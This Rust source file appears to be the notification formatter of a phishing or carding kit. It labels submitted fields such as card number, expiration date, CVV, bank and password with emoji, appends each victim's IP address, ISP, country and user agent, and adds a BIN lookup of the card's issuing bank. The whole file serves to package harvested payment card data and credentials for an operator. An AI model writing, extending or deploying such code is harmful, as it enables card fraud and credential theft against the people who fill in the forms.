//! Message formatter: annotated submission, system footer, issuer block.
//!
//! Pure and total: any input produces a non-empty body, and the same inputs
//! with the same capture time always produce the same output.

use chrono::FixedOffset;

use crate::identity::IdentityResult;
use crate::issuer::{IssuerRecord, logo_asset};
use crate::pipeline::types::{ClientContext, FormattedMessage};

/// Field labels and their glyphs. Matched case-insensitively against the
/// start of each line; the first entry that matches wins.
pub const KEYWORD_GLYPHS: &[(&str, &str)] = &[
    ("étape", "📣"),
    ("nom", "👤"),
    ("prénom", "🙋"),
    ("téléphone", "📞"),
    ("email", "✉️"),
    ("adresse", "🏠"),
    ("carte", "💳"),
    ("numéro", "🔢"),
    ("exp", "📅"),
    ("expiration", "📅"),
    ("cvv", "🔒"),
    ("banque", "🏦"),
    ("id", "🆔"),
    ("pass", "🔑"),
    ("password", "🔑"),
    ("name", "👤"),
    ("phone", "📞"),
    ("card", "💳"),
    ("address", "🏠"),
    ("amount", "💰"),
    ("montant", "💰"),
];

/// Builds the notification body for one submission.
#[derive(Debug, Clone)]
pub struct MessageFormatter {
    utc_offset: FixedOffset,
    logo_base_url: Option<String>,
}

impl MessageFormatter {
    pub fn new(utc_offset: FixedOffset, logo_base_url: Option<String>) -> Self {
        Self {
            utc_offset,
            logo_base_url,
        }
    }

    /// Render the final message.
    ///
    /// `bin` is the extracted card prefix, if any; when it is set but
    /// `issuer` is `None`, the miss is stated explicitly in the body.
    pub fn format<S: AsRef<str>>(
        &self,
        lines: &[S],
        client: &ClientContext,
        identity: &IdentityResult,
        bin: Option<&str>,
        issuer: Option<&IssuerRecord>,
    ) -> FormattedMessage {
        let mut body = annotate_lines(lines);
        body.push_str(&self.footer(client, identity));

        match (bin, issuer) {
            (_, Some(record)) => body.push_str(&issuer_block(record)),
            (Some(bin), None) => body.push_str(&format!("\n❗ Aucune info BIN pour {bin}\n")),
            (None, None) => {}
        }

        let artifact_url = issuer.and_then(|record| self.logo_url(&record.scheme));

        FormattedMessage { body, artifact_url }
    }

    fn footer(&self, client: &ClientContext, identity: &IdentityResult) -> String {
        let local = client.captured_at.with_timezone(&self.utc_offset);
        format!(
            "\n🗓️ Date & heure : {date}, {time}\n\
             🌐 IP Client     : {ip}\n\
             🔎 ISP Client    : {isp}\n\
             🌍 Pays Client   : {country}\n\
             📍 User-Agent    : {ua}\n\
             ©️ {year} ©️",
            date = local.format("%d/%m/%y"),
            time = local.format("%H:%M:%S"),
            ip = client.address(),
            isp = identity.operator,
            country = identity.country,
            ua = client.user_agent,
            year = local.format("%Y"),
        )
    }

    fn logo_url(&self, scheme: &str) -> Option<String> {
        let base = self.logo_base_url.as_deref()?;
        let asset = logo_asset(scheme)?;
        Some(format!("{}/{asset}", base.trim_end_matches('/')))
    }
}

/// Glyph for a line, if it starts with one of the known field labels.
pub fn glyph_for(line: &str) -> Option<&'static str> {
    let lower = line.to_lowercase();
    KEYWORD_GLYPHS
        .iter()
        .find(|(key, _)| lower.starts_with(key))
        .map(|(_, glyph)| *glyph)
}

/// Trim lines, drop blank ones, prefix recognised labels with their glyph.
fn annotate_lines<S: AsRef<str>>(lines: &[S]) -> String {
    let mut out = String::new();
    for line in lines.iter().map(|l| l.as_ref().trim()).filter(|l| !l.is_empty()) {
        if let Some(glyph) = glyph_for(line) {
            out.push_str(glyph);
            out.push(' ');
        }
        out.push_str(line);
        out.push('\n');
    }
    out
}

fn issuer_block(record: &IssuerRecord) -> String {
    format!(
        "\n💳 BIN Lookup:\n\
         \u{20}  • Scheme / network: {}\n\
         \u{20}  • Type: {}\n\
         \u{20}  • Brand: {}\n\
         \u{20}  • Prepaid: {}\n\
         \u{20}  • Country: {}\n\
         \u{20}  • Bank: {}\n",
        record.scheme,
        record.card_type,
        record.brand,
        record.prepaid_label(),
        record.country_label(),
        record.bank,
    )
}
